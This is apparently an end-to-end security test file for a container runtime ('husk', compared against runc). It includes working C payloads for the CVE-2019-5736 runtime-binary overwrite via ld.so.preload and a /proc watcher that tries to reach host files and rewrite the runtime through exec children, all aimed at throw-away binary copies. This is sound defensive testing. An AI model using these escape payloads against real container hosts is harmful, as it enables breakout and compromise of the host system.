//! The `security` group: container escapes performed for real, on husk and on runc (the
//! control). Each attack targets a throw-away copy of the runtime binary, never the real one,
//! and asserts the copy is byte for byte unchanged afterwards.
//!
//! - CVE-2019-5736: the container execs `/proc/self/exe` (the runtime), whose dynamic loader
//!   reads the image's /etc/ld.so.preload; the payload keeps an fd of /proc/self/exe, execs a
//!   shell to stop running the binary, and writes through /proc/self/fd/N.
//! - The exec child seen too early: a container with CAP_SYS_PTRACE watches /proc for new
//!   pids while `exec` runs 40 times, and tries their /proc/PID/root (a host file) and
//!   /proc/PID/exe (the binary, reopened for writing).

mod runtime_support;

use husk_e2e::{husk_bin, output_text, wait_until, Bundle, Runtime, TempDir};
use runtime_support::*;
use serde_json::{json, Value};
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

/// A copy of `bin` in `dir`: the one binary an attack may damage.
fn copy_of(bin: &Path, dir: &TempDir) -> PathBuf {
    let copy = dir.join(bin.file_name().expect("a binary has a file name"));
    std::fs::copy(bin, &copy).unwrap_or_else(|e| panic!("failed to copy {}: {e}", bin.display()));
    copy
}

/// The two ways husk seals its binary before it spawns into a container (cloned_binary.rs):
/// the detached read-only overlay (the default) and the memfd copy (its fallback); every
/// attack runs against both.
const SEAL_MODES: [&str; 2] = ["overlay", "memfd"];

fn husk_copy(dir: &TempDir, seal_mode: &str) -> Runtime {
    Runtime::new(copy_of(&husk_bin(), dir)).with_env("HUSK_EXESEAL", seal_mode)
}

fn runc_copy(dir: &TempDir) -> Runtime {
    Runtime::new(copy_of(Path::new("/usr/sbin/runc"), dir))
}

/// gcc `source` with `flags` into `out`.
fn compile(source: &str, flags: &[&str], out: &Path) {
    let src = out.with_extension("c");
    std::fs::write(&src, source).unwrap();
    let status = Command::new("gcc")
        .args(flags)
        .arg("-o")
        .arg(out)
        .arg(&src)
        .output()
        .expect("gcc runs");
    assert!(status.status.success(), "gcc {src:?}: {}", output_text(&status));
}

/// The dynamic loader and every library `bin` needs, at the same paths inside `rootfs`.
fn copy_libraries_of(bin: &Path, rootfs: &Path) {
    let out = Command::new("ldd").arg(bin).output().expect("ldd runs");
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let paths = text
        .lines()
        .filter_map(|line| line.split_whitespace().find(|w| w.starts_with('/')))
        .map(PathBuf::from);
    for lib in paths {
        let inside = rootfs.join(lib.strip_prefix("/").unwrap());
        std::fs::create_dir_all(inside.parent().unwrap()).unwrap();
        std::fs::copy(&lib, &inside).unwrap_or_else(|e| panic!("failed to copy {}: {e}", lib.display()));
    }
}

/// The payload that every dynamic program in the image loads first. It holds the executable
/// in fd 9 and becomes a shell that retries writing through it once nothing runs it.
const PRELOAD_PAYLOAD: &str = r#"
#define _GNU_SOURCE
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void overwrite_the_runtime(void) {
    int fd = open("/proc/self/exe", O_PATH);
    if (fd < 0 || dup2(fd, 9) < 0) return;
    char *argv[] = {"sh", "-c",
        "echo ran > /attack-ran; i=0; while [ $i -lt 300 ]; do "
        "if printf PWNED 1<>/proc/self/fd/9 2>/dev/null; then echo wrote > /attack-result; exit 0; fi; "
        "i=$((i+1)); usleep 10000; done; echo resisted > /attack-result", 0};
    char *envp[] = {"PATH=/bin", 0};
    execve("/bin/sh", argv, envp);
}
"#;

/// A bundle whose image carries glibc (for the runtime's own binary), the payload in
/// /etc/ld.so.preload, and a writable root for the attack's report.
fn preload_bundle(rt: &Runtime, args: &[&str], tmp: &TempDir) -> Bundle {
    let mut bundle = Bundle::new(args);
    let rootfs = bundle.rootfs();
    copy_libraries_of(rt.bin(), &rootfs);
    compile(PRELOAD_PAYLOAD, &["-shared", "-fPIC"], &tmp.join("payload.so"));
    std::fs::copy(tmp.join("payload.so"), rootfs.join("payload.so")).unwrap();
    std::fs::write(rootfs.join("etc/ld.so.preload"), "/payload.so\n").unwrap();
    bundle.config_mut()["root"]["readonly"] = json!(false);
    bundle.save();
    bundle
}

/// The payload's verdict, once it has one. It retries 300 times, each a busybox `usleep`
/// fork and exec: about 3 s on a quiet machine, but more than 15 s with the machine busy
/// (a run beside other test files saw an empty verdict after 15 s), so the wait, which ends as soon as the verdict
/// is there, allows 90 s.
fn attack_result(bundle: &Bundle) -> String {
    let result = bundle.rootfs().join("attack-result");
    wait_until(Duration::from_secs(90), || result.exists());
    let ran = bundle.rootfs().join("attack-ran").exists();
    assert!(ran, "the payload never ran: the attack was not performed");
    std::fs::read_to_string(result).unwrap_or_default()
}

fn assert_binary_unchanged(rt: &Runtime, original: &Path, verdict: &str) {
    let now = std::fs::read(rt.bin()).unwrap();
    let before = std::fs::read(original).unwrap();
    if now != before {
        // Put the copy back first, so that the cleanup (`delete --force`) can still run it.
        std::fs::write(rt.bin(), &before).unwrap();
    }
    assert!(
        now == before,
        "{}: the container overwrote the runtime binary (payload: {verdict:?}); starts with {:?}",
        rt.bin().display(),
        String::from_utf8_lossy(&now[..8])
    );
}

/// CVE-2019-5736 through the container's own process: create + start, the runtime exits.
fn overwrite_via_init(rt: &Runtime, original: &Path, tmp: &TempDir) {
    let bundle = preload_bundle(rt, &["/proc/self/exe"], tmp);
    create_ok(rt, &bundle);
    rt.run_ok(&["start", bundle.id()]);
    let verdict = attack_result(&bundle);
    assert_binary_unchanged(rt, original, &verdict);
    assert_eq!(verdict.trim(), "resisted", "{}", rt.bin().display());
}

/// The same through `exec --detach /proc/self/exe` in a running container.
fn overwrite_via_exec(rt: &Runtime, original: &Path, tmp: &TempDir) {
    let bundle = preload_bundle(rt, &["sleep", "100"], tmp);
    create_ok(rt, &bundle);
    rt.run_ok(&["start", bundle.id()]);
    rt.run_ok(&["exec", "--detach", bundle.id(), "/proc/self/exe"]);
    let verdict = attack_result(&bundle);
    assert_binary_unchanged(rt, original, &verdict);
    assert_eq!(verdict.trim(), "resisted", "{}", rt.bin().display());
}

/// `attack` on a copy of husk (each seal mode), then on a copy of runc (the control).
fn on_husk_then_runc(attack: fn(&Runtime, &Path, &TempDir)) {
    for mode in SEAL_MODES {
        let tmp = TempDir::new("sec-exe");
        attack(&husk_copy(&tmp, mode), &husk_bin(), &tmp);
    }
    let runc_tmp = TempDir::new("sec-exe");
    attack(&runc_copy(&runc_tmp), Path::new("/usr/sbin/runc"), &runc_tmp);
}

#[test]
fn security_cve_2019_5736_init_cannot_overwrite_the_runtime_binary() {
    on_husk_then_runc(overwrite_via_init);
}

#[test]
fn security_cve_2019_5736_exec_cannot_overwrite_the_runtime_binary() {
    on_husk_then_runc(overwrite_via_exec);
}

/// Watches /proc for pids other than itself and pid 1 until /stop appears (or argv[4] seconds
/// pass, a safety limit: a fixed watch time made the test fail on a loaded machine, where 40
/// execs outlasted it). For each: tries
/// the host file at argv[3] through /proc/PID/root, and keeps an O_PATH fd of /proc/PID/exe
/// when it is the runtime binary (argv[1] inode, argv[2] device: `exe-is-binary`), then keeps
/// retrying to reopen it for writing (ETXTBSY while the runtime runs) and to write it
/// (`writable-binary`, `wrote`). A read-only bind mount of the binary (runc 1.1 execs its init
/// from one: same inode) refuses with EROFS once idle (`read-only-clone`) and is dropped.
/// One line per finding in /report.
const WATCHER: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
static FILE *report;
static void note(const char *what, int pid) { fprintf(report, "%s %d\n", what, pid); fflush(report); }
int main(int argc, char **argv) {
    unsigned long long ino = strtoull(argv[1], 0, 10), dev = strtoull(argv[2], 0, 10);
    const char *marker = argv[3];
    time_t until = time(0) + atoi(argv[4]);
    int held[256], nheld = 0, self = getpid();
    report = fopen("/report", "a");
    note("watching", self);
    while (time(0) < until && access("/stop", F_OK) != 0) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == self) continue;
            char path[4096];
            snprintf(path, sizeof path, "/proc/%d/root%s", pid, marker);
            int fd = open(path, O_RDONLY);
            if (fd >= 0) { note("host-file", pid); close(fd); }
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            fd = open(path, O_PATH);
            struct stat st;
            if (fd >= 0 && fstat(fd, &st) == 0 && st.st_ino == ino && st.st_dev == dev && nheld < 256) {
                note("exe-is-binary", pid);
                held[nheld++] = fd;
            } else if (fd >= 0) close(fd);
        }
        if (d) closedir(d);
        for (int i = 0; i < nheld; i++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
            int w = open(path, O_WRONLY);
            if (w < 0 && errno == EROFS) {
                note("read-only-clone", 0);
                close(held[i]);
                held[i--] = held[--nheld];
            } else if (w >= 0) {
                note("writable-binary", 0);
                if (pwrite(w, "PWNED", 5, 0) == 5) { note("wrote", 0); return 0; }
                close(w);
            }
        }
    }
    note("done", 0);
    return 0;
}
"#;

/// A container with CAP_SYS_PTRACE running the watcher; `exec true` 40 times meanwhile.
fn watch_exec_children(rt: &Runtime, tmp: &TempDir) -> String {
    let marker = tmp.join("host-only-marker");
    std::fs::write(&marker, "host").unwrap();
    let meta = std::fs::metadata(rt.bin()).unwrap();
    let (ino, dev) = (meta.ino().to_string(), meta.dev().to_string());
    let args = ["/watcher", &ino, &dev, marker.to_str().unwrap(), "300"];
    let mut bundle = Bundle::new(&args);
    compile(WATCHER, &["-static", "-O2"], &bundle.rootfs().join("watcher"));
    let config = bundle.config_mut();
    config["root"]["readonly"] = json!(false);
    for set in ["bounding", "effective", "permitted"] {
        let caps = config["process"]["capabilities"][set].as_array_mut().unwrap();
        caps.push(Value::from("CAP_SYS_PTRACE"));
    }
    bundle.save();
    create_ok(rt, &bundle);
    rt.run_ok(&["start", bundle.id()]);
    let report = bundle.rootfs().join("report");
    assert!(
        wait_until(Duration::from_secs(10), || report.exists()),
        "the watcher never started"
    );
    for _ in 0..40 {
        // Not rt.run, which panics when the binary cannot be spawned: a container that holds it
        // open for writing (ETXTBSY) or has overwritten it (ENOEXEC) must reach the verdict below.
        match rt.command(&["exec", bundle.id(), "true"]).output() {
            Ok(out) => assert!(out.status.success(), "exec true: {}", output_text(&out)),
            Err(e) => {
                eprintln!("{}: exec no longer runs: {e}", rt.bin().display());
                break;
            }
        }
    }
    std::fs::write(bundle.rootfs().join("stop"), "").unwrap();
    let done = || std::fs::read_to_string(&report).unwrap_or_default().contains("done");
    wait_until(Duration::from_secs(20), done);
    std::fs::read_to_string(&report).unwrap_or_default()
}

/// Returns the watcher's report.
fn assert_exec_children_unreachable(rt: &Runtime, original: &Path, tmp: &TempDir) -> String {
    let report = watch_exec_children(rt, tmp);
    let mut findings: Vec<&str> = report
        .lines()
        .filter(|l| {
            ["host-file", "writable-binary", "wrote"]
                .iter()
                .any(|bad| l.starts_with(bad))
        })
        .collect();
    findings.sort_unstable();
    findings.dedup();
    assert_binary_unchanged(rt, original, &format!("{findings:?}"));
    assert!(
        findings.is_empty(),
        "{}: the container reached the host or the binary through an exec child: {findings:?}",
        rt.bin().display()
    );
    assert!(report.contains("done"), "the watcher did not finish: {report:?}");
    report
}

/// husk goes further than runc here: its exec process runs from a sealed view (a memfd: its own
/// inode; the detached overlay: its own st_dev), so the container never even sees the binary's
/// inode (runc 1.1 shows its read-only bind clone, same inode).
fn assert_binary_never_seen(report: &str) {
    assert!(!report.contains("exe-is-binary"), "{report}");
}

#[test]
fn security_exec_child_is_never_visible_outside_the_container() {
    for mode in SEAL_MODES {
        let tmp = TempDir::new("sec-exe");
        let report = assert_exec_children_unreachable(&husk_copy(&tmp, mode), &husk_bin(), &tmp);
        assert_binary_never_seen(&report);
    }
    let runc_tmp = TempDir::new("sec-exe");
    assert_exec_children_unreachable(&runc_copy(&runc_tmp), Path::new("/usr/sbin/runc"), &runc_tmp);
}

/// Where a created container's init runs from, seen from the host while it waits for
/// `start`: never a writable file. runc 1.1.5 runs its init from a read-only bind mount of
/// its binary (the same inode, EROFS); husk goes further and never shows the binary's own
/// (st_dev, st_ino): the detached read-only overlay (the default; own st_dev, EROFS) or, with
/// HUSK_EXESEAL=memfd, a sealed memfd copy. Returns the exe's (st_dev, st_ino) and fs type.
fn init_exe_of_created_container(rt: &Runtime) -> ((u64, u64), i64) {
    let bundle = sh_bundle("true");
    let pid = create_ok(rt, &bundle);
    let exe = format!("/proc/{pid}/exe");
    let seen = std::fs::metadata(&exe).unwrap();
    let write = std::fs::OpenOptions::new().write(true).open(&exe);
    assert!(
        write.is_err(),
        "{}: the init's executable opened for writing",
        rt.bin().display()
    );
    let fs_type = fs_type_of(&std::fs::File::open(&exe).unwrap());
    rt.run_ok(&["delete", "--force", bundle.id()]);
    ((seen.dev(), seen.ino()), fs_type)
}

fn dev_ino(path: &Path) -> (u64, u64) {
    let meta = std::fs::metadata(path).unwrap();
    (meta.dev(), meta.ino())
}

fn fs_type_of(file: &std::fs::File) -> i64 {
    use std::os::fd::AsRawFd;
    // SAFETY: fstatfs fills a zeroed plain-data struct for a valid fd.
    let mut st: libc::statfs = unsafe { std::mem::zeroed() };
    assert_eq!(unsafe { libc::fstatfs(file.as_raw_fd(), &mut st) }, 0);
    st.f_type
}

#[test]
fn security_init_runs_from_a_sealed_view_of_the_binary() {
    const OVERLAYFS_SUPER_MAGIC: i64 = 0x794c_7630;
    let tmp = TempDir::new("sec-exe");
    let rt = husk_copy(&tmp, "overlay");
    let (file, fs_type) = init_exe_of_created_container(&rt);
    assert_eq!(fs_type, OVERLAYFS_SUPER_MAGIC, "husk, overlay");
    assert_ne!(
        file,
        dev_ino(rt.bin()),
        "husk, overlay: the init runs the binary itself"
    );
    let rt = husk_copy(&tmp, "memfd");
    let (file, fs_type) = init_exe_of_created_container(&rt);
    assert_ne!(fs_type, OVERLAYFS_SUPER_MAGIC, "husk, memfd");
    assert_ne!(file, dev_ino(rt.bin()), "husk, memfd: the init runs the binary itself");
    let bad = husk_copy(&tmp, "bogus").run(&["create", "--bundle", "/nonexistent", "x"]);
    assert!(!bad.status.success());
    assert_eq!(
        String::from_utf8_lossy(&bad.stderr).trim(),
        "husk: failed to use HUSK_EXESEAL=bogus (want overlay or memfd): invalid argument"
    );
    let runc_tmp = TempDir::new("sec-exe");
    init_exe_of_created_container(&runc_copy(&runc_tmp));
}
